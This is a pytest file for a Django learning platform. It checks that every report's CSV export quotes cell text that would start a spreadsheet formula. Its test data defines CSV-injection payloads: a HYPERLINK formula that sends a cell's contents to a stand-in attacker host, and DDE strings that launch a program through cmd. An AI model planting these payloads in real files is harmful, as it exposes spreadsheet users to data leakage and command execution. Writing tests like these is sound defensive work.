"""No report's CSV download hands a spreadsheet a formula that a learner or an editor
wrote: text that would start one gets a ``'`` first; numbers stay numbers."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import get_resolver

from borg_learning.models import Answer, DevelopmentGroup
from borg_learning.reports.exports import FormulaSafeCsvMixin, csv_cell
from tests import factories
from tests.factories import respond, visits
from tests.helpers.reports import YEAR, csv_rows, report

pytestmark = pytest.mark.django_db

# What an anonymous learner can type as an open answer, or an editor as a title.
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Klik hier")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
HOSTILE = [HYPERLINK, DDE, PLUS, MINUS, TAB, RETURN]
DAY = datetime.date(2025, 3, 10)


def quoted(text):
    return "'" + text


def assert_no_cell_starts_a_formula(rows):
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_quote(text):
    assert csv_cell(text) == quoted(text)


@pytest.mark.parametrize(
    "value", ["Ik vraag eerder door.", "", " =1+1", "1-2", "'al tekst", None, 0, 12, 52.8]
)
def test_other_values_are_left_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("number", [-3, -12.5, Decimal("-1.5")])
def test_a_negative_number_stays_a_number_and_text_like_one_does_not(number):
    assert csv_cell(number) == number
    assert csv_cell(str(number)) == quoted(str(number))


def test_every_report_of_the_app_guards_its_csv():
    _prefix, reports = get_resolver().namespace_dict["borg_learning_reports"]
    views = [
        pattern.callback.view_class
        for included in reports.url_patterns
        for pattern in included.url_patterns
    ]
    assert len(views) == 10  # five reports, each with its results view
    assert all(issubclass(view, FormulaSafeCsvMixin) for view in views)


# --- each report's CSV ------------------------------------------------------------------


def test_evaluation_per_question(editor, environment):
    module = factories.basic_module(environment, title="Basis SGLVG")
    response = respond(module, DAY, {101: 4, 201: [DDE]})
    response.questions = [
        {**question, "options": [DDE, *question["options"]]} if question["id"] == 201 else question
        for question in response.questions
    ]
    response.save(update_fields=["questions"])
    Answer.objects.filter(question_id=101).update(question_text=HYPERLINK)
    rows = csv_rows(editor.get("/admin/reports/evaluation/", {**YEAR, "export": "csv"}))
    assert_no_cell_starts_a_formula(rows)
    question, distribution = rows[1][1], rows[3][6]
    assert question == quoted(HYPERLINK)
    assert distribution.startswith(quoted(f"{DDE}: 1;"))
    level_row = rows[2]
    assert level_row[3:6] == ["1", "", "75,0"]  # figures as figures, with a decimal comma


def test_open_answers(editor, environment):
    module = factories.basic_module(environment, title=DDE)
    for day, text in enumerate(HOSTILE, start=1):
        respond(module, datetime.date(2025, 3, day), {302: text})
    rows = csv_rows(editor.get("/admin/reports/open-answers/", {**YEAR, "export": "csv"}))
    assert_no_cell_starts_a_formula(rows)
    assert [row[1:] for row in rows[1:]] == [
        [quoted(DDE), "Wat doe je nu anders?", quoted(text)] for text in reversed(HOSTILE)
    ]
    # The workbook keeps the text as it was typed, as text (openpyxl without lxml writes a
    # bare CR, which XML reads as a newline; with lxml, which the lms extra brings, "&#13;").
    download = editor.get("/admin/reports/open-answers/", {**YEAR, "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    answers = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value.replace("\r", "\n") for cell in answers] == [
        text.replace("\r", "\n") for text in reversed(HOSTILE)
    ]
    assert {cell.data_type for cell in answers} == {"s"}


def test_level_4(editor, environment):
    theme = factories.theme(name=PLUS)
    module = factories.basic_module(environment, title="Basis SGLVG", themes=[theme])
    respond(module, DAY, {101: 5})
    visits(module, DAY, 3)
    params = {"date_from": "2025-03-01", "date_to": "2025-03-31", "export": "csv"}
    rows = csv_rows(editor.get("/admin/reports/level-4/", params))
    assert_no_cell_starts_a_formula(rows)
    assert [row[:4] for row in rows[1:]] == [
        ["Hele leeromgeving", "maart 2025", "3", "1"],
        [quoted(PLUS), "maart 2025", "3", "1"],
    ]


def test_visits(editor, environment):
    theme = factories.theme(name=HYPERLINK)
    module = factories.basic_module(environment, title=MINUS, themes=[theme])
    visits(module, DAY, 4)
    rows = csv_rows(editor.get("/admin/reports/visits/", {**YEAR, "export": "csv"}))
    assert_no_cell_starts_a_formula(rows)
    assert [row[1:3] for row in rows[1:]] == [
        ["Hele leeromgeving", "4"],
        [quoted(HYPERLINK), "4"],
        [quoted(MINUS), "4"],
    ]


def test_modules_due_for_review(editor, environment):
    group = DevelopmentGroup.objects.create(name=DDE)
    factories.basic_module(
        environment,
        title=HYPERLINK,
        development_group=group,
        last_reviewed=datetime.date(2020, 1, 1),
    )
    rows = csv_rows(editor.get("/admin/reports/modules-due-for-review/", {"export": "csv"}))
    assert_no_cell_starts_a_formula(rows)
    ((title, *_middle, development_group, _status),) = rows[1:]
    assert (title, development_group) == (quoted(HYPERLINK), quoted(DDE))
    assert report(editor, "/admin/reports/modules-due-for-review/", {}).status_code == 200


def test_a_report_would_write_a_negative_figure_as_a_number(editor, environment):
    module = factories.basic_module(environment)
    respond(module, DAY, {101: 4})
    view = report(editor, "/admin/reports/evaluation/", YEAR).context["view"]
    assert view.preprocess_field_value("score", -12.5, "csv") == "-12,5"  # no quote
    assert view.preprocess_field_value("text", "-12,5", "csv") == "'-12,5"
    assert view.preprocess_field_value("text", HYPERLINK, "xlsx") == HYPERLINK
